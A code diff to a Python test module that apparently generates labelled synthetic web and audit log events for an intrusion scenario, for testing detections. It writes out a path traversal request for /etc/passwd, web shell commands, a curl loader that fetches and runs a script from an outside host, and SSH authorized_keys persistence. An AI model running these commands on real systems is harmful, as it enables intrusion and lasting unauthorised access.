@@ -10,6 +10,7 @@ rest.
 import hashlib
 from random import Random
 from typing import Final
+from urllib.parse import quote_plus
 
 from tests.demo.plant import (
     CONTROLLER_ADDRESS,
@@ -44,9 +45,8 @@ SIGNATURE: Final = "NORDHAFEN WEB Path Traversal to the Password File"
 
 
 def draft_web_server(pen: Pen) -> list[Draft]:
-    """From the first request to the web server's job that comes back."""
-    loader = f"curl -fsS http://{OUTSIDE}/w.sh | sh"
-    command = loader.replace(" ", "+").replace("|", "%7C").replace("/", "%2F")
+    """From the first request to the key that lets the intruder come back."""
+    loader = f"curl -fsS http://{OUTSIDE}/w -o /dev/shm/.w; sh /dev/shm/.w"
     traversal = "/portal/export.php?file=../../../../../../etc/passwd"
     return [
         pen.access(0.8, OUTSIDE, f"GET {traversal} HTTP/1.1", 200, 1874, AGENT).labelled(
@@ -57,17 +57,21 @@ def draft_web_server(pen: Pen) -> list[Draft]:
         pen.access(1.6, OUTSIDE, f"GET {SHELL}?cmd=id HTTP/1.1", 200, 54, AGENT).labelled(
             "Command Sent to a Web Shell", "an uploaded picture is a web shell"
         ),
-        draft_shell(pen, 1.7, ("sh", "-c", "id"), 9101).labelled(
-            "Web Server Starts a Shell", "the web shell asks who it is"
+        draft_command(pen, 1.7, "/usr/bin/dash", ("sh", "-c", "id"), 9101).labelled(
+            None, "for which the web server starts a shell"
         ),
-        pen.access(2.6, OUTSIDE, f"GET {SHELL}?cmd={command} HTTP/1.1", 200, 0, AGENT).labelled(
-            "Command Sent to a Web Shell", "the web shell is told to fetch a script"
+        draft_command(pen, 1.72, "/usr/bin/id", ("id",), 9101).labelled(
+            "Web Server's Account Looks Around on Its Host", "the web shell asks who it is"
         ),
-        draft_shell(pen, 2.7, ("sh", "-c", loader), 9110).labelled(
-            "Web Server Starts a Shell", "the web server's account fetches a script and runs it"
+        pen.access(
+            2.6, OUTSIDE, f"GET {SHELL}?cmd={quote_plus(loader)} HTTP/1.1", 200, 0, AGENT
+        ).labelled("Command Sent to a Web Shell", "the web shell is told to fetch a script"),
+        draft_command(pen, 2.7, "/usr/bin/dash", ("sh", "-c", loader), 9110).labelled(
+            "Code From a Bare Address Fetched and Run",
+            "the web server's account fetches a script and runs it",
         ),
         draft_fetch(pen, 2.8),
-        draft_job(pen, 3.6),
+        draft_key(pen, 3.6),
     ]
 
 
@@ -102,20 +106,20 @@ def draft_alert(pen: Pen, at: float, url: str) -> Draft:
     )
 
 
-def draft_shell(pen: Pen, at: float, arguments: tuple[str, ...], pid: int) -> Draft:
-    """PHP's worker starts a shell."""
+def draft_command(pen: Pen, at: float, image: str, arguments: tuple[str, ...], pid: int) -> Draft:
+    """PHP's worker, or the shell that it started, starts a program."""
     call = describe_syscall(
-        "execve", "/usr/bin/dash", comm="sh", pid=pid, ppid=2114, uid=33, key="exec", items=1
+        "execve", image, comm=arguments[0], pid=pid, ppid=2114, uid=33, key="exec", items=1
     )
     return pen.audit(
         at, call, describe_arguments(arguments), ("CWD", 'cwd="/var/www/html/uploads"'),
-        describe_path(0, "/bin/sh", "NORMAL"), describe_title(arguments),
+        describe_path(0, image, "NORMAL"), describe_title(arguments),
     )  # fmt: skip
 
 
 def draft_fetch(pen: Pen, at: float) -> Draft:
     """The shell's curl connects to the attacker's server."""
-    arguments = ("curl", "-fsS", f"http://{OUTSIDE}/w.sh")
+    arguments = ("curl", "-fsS", f"http://{OUTSIDE}/w", "-o", "/dev/shm/.w")
     call = describe_syscall("connect", "/usr/bin/curl", pid=9111, ppid=9110, uid=33, key="net")
     address = ("SOCKADDR", f"saddr={encode_socket_address(OUTSIDE, 80)}")
     return pen.audit(at, call, address, describe_title(arguments)).labelled(
@@ -123,17 +127,20 @@ def draft_fetch(pen: Pen, at: float) -> Draft:
     )
 
 
-def draft_job(pen: Pen, at: float) -> Draft:
-    """The script leaves a job of cron's behind."""
-    folder, name = "/var/spool/cron/crontabs", "/var/spool/cron/crontabs/www-data"
+def draft_key(pen: Pen, at: float) -> Draft:
+    """The script leaves a key of the intruder's behind."""
+    folder = "/var/www/.ssh"
     call = describe_syscall(
-        "openat", "/usr/bin/crontab", pid=9127, ppid=9110, uid=33, key="cron", items=2
+        "openat", "/usr/bin/dash", comm="sh", pid=9112, ppid=9110, uid=33, key="webfiles", items=2
     )
     return pen.audit(
         at, call, ("CWD", 'cwd="/var/www/html/uploads"'),
-        describe_path(0, folder, "PARENT", mode="041730"),
-        describe_path(1, name, "CREATE", 33, "0100600"), describe_title(("crontab", "-")),
-    ).labelled("Cron Persistence", "it comes back by a job of cron's")  # fmt: skip
+        describe_path(0, folder, "PARENT", 33, "040700"),
+        describe_path(1, f"{folder}/authorized_keys", "CREATE", 33, "0100644"),
+        describe_title(("sh", "/dev/shm/.w")),
+    ).labelled(
+        "Key File for SSH Created by Another Program", "it leaves a key, to come back by SSH"
+    )  # fmt: skip
 
 
 def draft_network(pen: Pen) -> list[Draft]:
